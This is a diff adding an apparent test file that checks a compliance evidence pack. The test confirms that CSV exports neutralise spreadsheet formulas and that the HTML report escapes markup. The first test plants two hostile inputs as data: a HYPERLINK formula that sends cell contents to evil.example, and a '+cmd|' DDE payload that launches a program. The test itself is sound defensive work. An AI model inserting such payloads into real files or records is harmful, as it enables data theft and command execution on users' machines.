@@ -1,0 +1,74 @@
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import * as path from 'node:path';
+import { bearer, createTestApp, givenUser, TestApp, TestUser } from './support';
+import { givenReviewWorld, givenUseCaseAt, ReviewWorld } from './support/review-world';
+import { runCommand } from './support/run-command';
+
+/** What a hostile but signed-in user can put into a pack, and whether an auditor can follow VERIFY.md as written. */
+describe('the evidence pack, read by an auditor', () => {
+  let t: TestApp;
+  let world: ReviewWorld;
+  let officer: TestUser;
+  let work: string;
+
+  beforeAll(async () => {
+    t = await createTestApp();
+    world = await givenReviewWorld(t);
+    officer = await givenUser(t, { roles: ['compliance_officer'] });
+    work = await mkdtemp(path.join(tmpdir(), 'gatehouse-pack-content-'));
+  });
+  afterAll(async () => {
+    await rm(work, { recursive: true, force: true });
+    await t.close();
+  });
+
+  async function downloadPack(query: Record<string, string>, name: string) {
+    const res = await t.http().get('/api/compliance/iso42001/pack').query(query).set(bearer(officer.token)).buffer(true)
+      .parse((r, done) => { const c: Buffer[] = []; r.on('data', (b: Buffer) => c.push(b)); r.on('end', () => done(null, Buffer.concat(c))); });
+    const zip = path.join(work, `${name}.zip`);
+    const dir = path.join(work, name);
+    await writeFile(zip, res.body as Buffer);
+    const unzipped = await runCommand('python3', ['-m', 'zipfile', '-e', zip, dir]);
+    return { status: res.status, unzipped: unzipped.code === 0, dir, read: (file: string) => readFile(path.join(dir, file), 'utf8') };
+  }
+
+  it('neutralises spreadsheet formulas in its CSV files, and escapes HTML in its report', async () => {
+    const useCaseId = await givenUseCaseAt(t, world, 'minimal');
+    const title = '=HYPERLINK("https://evil.example/?"&A1,"<b>click</b>")';
+    await t.http().patch(`/api/use-cases/${useCaseId}`).set(bearer(world.opener.token)).send({ title }).then((r) => {
+      if (r.status >= 300) throw new Error(`${r.status} ${JSON.stringify(r.body)}`);
+    });
+    const soa = (await t.http().get('/api/compliance/iso42001/soa').set(bearer(officer.token)).expect(200)).body;
+    await t.http().patch('/api/compliance/iso42001/soa/controls/A.2.2').set(bearer(officer.token))
+      .send({ basedOnVersion: soa.version, applicable: false, justification: '+cmd|" /C calc"!A0' }).expect(200);
+    const pack = await downloadPack({}, 'hostile');
+    expect(pack.status).toBe(200);
+    const inventory = await pack.read('inventory.csv');
+    const soaCsv = await pack.read('soa.csv');
+    for (const csv of [inventory, soaCsv, await pack.read('roles.csv')]) {
+      // No cell, quoted or not, begins with a character a spreadsheet reads as the start of a formula.
+      expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
+    }
+    expect(inventory).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""<b>click</b>"")"`);
+    expect(soaCsv).toContain(`'+cmd|`);
+    const report = await pack.read('report.html');
+    expect(report).not.toContain('<b>click</b>');
+    expect(report).toContain('&lt;b&gt;click&lt;/b&gt;');
+    // The JSON files keep the text as it was entered.
+    expect(JSON.parse(await pack.read(`use-cases/${useCaseId}/dossier.json`)).useCase.title).toBe(title);
+  });
+
+  it('VERIFY.md step 2, followed literally, verifies the manifest with openssl', async () => {
+    const pack = await downloadPack({}, 'literal');
+    const published = (await t.http().get('/api/audit/public-key').set(bearer(officer.token)).expect(200)).body;
+    await writeFile(path.join(pack.dir, 'gatehouse-public-key.pem'), published.publicKey);
+    const guide = await pack.read('audit-trail/VERIFY.md');
+    const commands = guide.split('\n').filter((line) => /^ {7}(node|openssl) /.test(line)).map((line) => line.trim());
+    expect(commands).toHaveLength(2);
+    for (const command of commands) {
+      const run = await runCommand('sh', ['-c', `cd '${pack.dir}' && ${command}`]);
+      expect({ command, output: run.output.trim(), code: run.code }).toEqual({ command, output: expect.stringMatching(/Signature Verified Successfully|^$/), code: 0 });
+    }
+  });
+});
